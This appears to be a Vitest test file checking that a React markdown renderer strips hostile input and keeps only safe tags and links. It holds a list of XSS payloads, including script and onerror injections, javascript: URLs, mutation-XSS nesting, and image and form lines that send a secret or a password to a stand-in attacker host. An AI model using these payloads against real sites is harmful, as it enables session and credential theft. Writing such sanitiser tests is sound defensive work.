// @vitest-environment happy-dom
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { texts } from "../src/texts/en.ts";
import { Prose } from "../src/ui/prose/prose.tsx";

function render(text: string, writing = false): HTMLElement {
  const page = document.createElement("div");
  page.innerHTML = renderToStaticMarkup(
    <Prose text={text} writing={writing} whole={!writing} labels={texts.prose} />,
  );
  return page;
}

const harmless = new Set(
  "A B BLOCKQUOTE BR BUTTON CODE DEL DIV EM FIGCAPTION FIGURE H4 H5 HR LI OL P PATH PRE RECT SPAN STRONG SVG TABLE TBODY TD TH THEAD TR UL".split(
    " ",
  ),
);

const payloads = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "text <img src='https://evil.example/?q=secret'> more",
  "<svg onload=alert(1)><animate></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](//evil.example)",
  "[x](/api/logout)",
  "![x](javascript:alert(1))",
  "![secret](https://evil.example/p.png?q=secret)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- [ ] <img src=x onerror=alert(1)>",
  "<style>*{display:none}</style>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<form action=https://evil.example><input name=password></form>",
  "```mermaid\ngraph TD; A-->B; click A 'javascript:alert(1)'\n```",
];

describe.each([
  ["finished", false],
  ["being written", true],
])("hostile markdown, %s", (_state, writing) => {
  test.each(payloads)("%j makes nothing but text and safe links", (payload) => {
    for (const element of render(payload, writing).querySelectorAll("*")) {
      expect(harmless, element.outerHTML).toContain(element.tagName.toUpperCase());
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^src$|^style$|^srcdoc$|^action$/);
        if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:)/);
      }
    }
  });
});

describe("links", () => {
  test("open in a page of their own, and say nothing of where they were", () => {
    const link = render("[the guide](https://example.com/x)").querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://example.com/x");
    expect(link?.getAttribute("rel")).toBe("noreferrer noopener");
    expect(link?.getAttribute("target")).toBe("_blank");
  });

  test("an image is a link to it", () => {
    const page = render("![a chart](https://example.com/c.png)");
    expect(page.querySelector("img")).toBeNull();
    expect(page.querySelector("a")?.textContent).toBe("image: a chart");
  });
});

describe("elements", () => {
  test("headings stand below the page's own", () => {
    const page = render("# One\n\n## Two\n\n### Three");
    expect(
      [...page.querySelectorAll("h4, h5")].map(({ tagName, textContent }) => tagName + textContent),
    ).toEqual(["H4One", "H4Two", "H5Three"]);
  });

  test("figures stand at the end of their column", () => {
    const page = render("| Name | kWh |\n|---|---|\n| Single | 6,264 |\n| Triple | 1,002 |");
    expect([...page.querySelectorAll("td.figure")].map(({ textContent }) => textContent)).toEqual([
      "6,264",
      "1,002",
    ]);
  });

  test("tasks say whether they are done", () => {
    const marks = [...render("- [x] a\n- [ ] b").querySelectorAll(".task")];
    expect(marks.map((mark) => mark.getAttribute("aria-label"))).toEqual(["Done", "Not done"]);
  });

  test("a long code block is whole, in groups of lines", () => {
    const code = Array.from({ length: 120 }, (_, index) => `line ${index}`).join("\n");
    const page = render(`\`\`\`txt\n${code}\n\`\`\``);
    expect(page.querySelector("code")?.textContent).toBe(code);
    expect(page.querySelectorAll("code > span")).toHaveLength(3);
  });

  test("character references are characters, but not in code", () => {
    expect(render("a &lt; b &#8212; `&lt;`").textContent).toBe("a < b — &lt;");
  });
});
